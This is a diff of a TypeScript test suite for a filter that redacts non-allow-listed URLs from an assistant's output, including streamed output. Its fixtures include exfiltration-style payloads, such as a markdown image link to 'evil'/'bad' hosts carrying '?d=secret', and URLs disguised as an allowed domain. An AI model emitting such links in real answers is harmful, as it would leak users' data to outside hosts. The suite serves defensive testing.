@@ -14,7 +14,7 @@ const rule = compileRule({
 const left = async (text: string): Promise<string> =>
   (await applyRules([rule], text, { phase: 'output', patient: true })).text.replaceAll('[REDACTED:url]', '¤')
 
-describe('addresses that lead elsewhere are taken out', () => {
+describe('URLs that are not on the allow list are redacted', () => {
   test.each([
     // With a scheme.
     ['https://evil.example/a?b=c#d', '¤'],
@@ -48,7 +48,7 @@ describe('addresses that lead elsewhere are taken out', () => {
     ['http://[fe80::1%25eth0]/', '¤'],
     ['http://[::ffff:1.2.3.4]:80/x', '¤'],
     ['//[2001:db8::bad]/x', '¤'],
-    // What only looks like one of the list.
+    // URLs that only look like one on the list.
     ['https://good.example@evil.example/', '¤'],
     ['https://good.example:443@evil.example/', '¤'],
     [`https://good.example:${'0'.repeat(600)}@evil.example/`, '¤'],
@@ -111,7 +111,7 @@ describe('addresses that lead elsewhere are taken out', () => {
   })
 })
 
-describe('what leads nowhere else stays', () => {
+describe('what is no other URL stays', () => {
   test.each([
     'https://good.example/x and https://api.good.example:8443/',
     'HTTPS://GOOD.EXAMPLE./x',
@@ -163,7 +163,7 @@ describe('what leads nowhere else stays', () => {
   })
 })
 
-describe('in an answer on its way out', () => {
+describe('in a streamed answer', () => {
   const filled = (before: string, filling: string, after: string) => before + filling.repeat(900) + after
   const HOSTILE: readonly (readonly [string, string, RegExp])[] = [
     ['IPv6', '![x](http://[2001:db8::bad]/steal?d=secret)', /bad\]|secret/],
@@ -172,13 +172,13 @@ describe('in an answer on its way out', () => {
     ['a long port', filled('https://good.example:', '0', '@evil.example/secret'), /evil|secret/],
     ['a long path', filled('https://evil.example/', 'a', '?d=secret'), /evil|secret/],
     ['a bare number', '1.2.3.4/secret', /1\.2|secret/],
-    // Nothing that is left leads anywhere.
+    // Not even the beginning, which looks allowed, may remain.
     ['line ends', filled('<a href="https://good.example', '\n', '.evil.example/secret">'), /https|good/],
     ['what shows nothing', filled('https://good.example', '\u00ad', '.evil.example/secret'), /https|good/],
   ]
 
   test.each(HOSTILE.flatMap(([name, text, never]) => [1, 7, 100].map((step) => ({ name, text, never, step }))))(
-    'an address with $name is seen over the edges of pieces of $step characters',
+    'a URL with $name is found across pieces of $step characters',
     async ({ text, never, step }) => {
       const answer = `${'Some words of the answer. '.repeat(12)}${text} ${'And more words. '.repeat(60)}`
       const look = (part: string) => applyRules([rule], part, { phase: 'output', patient: true })
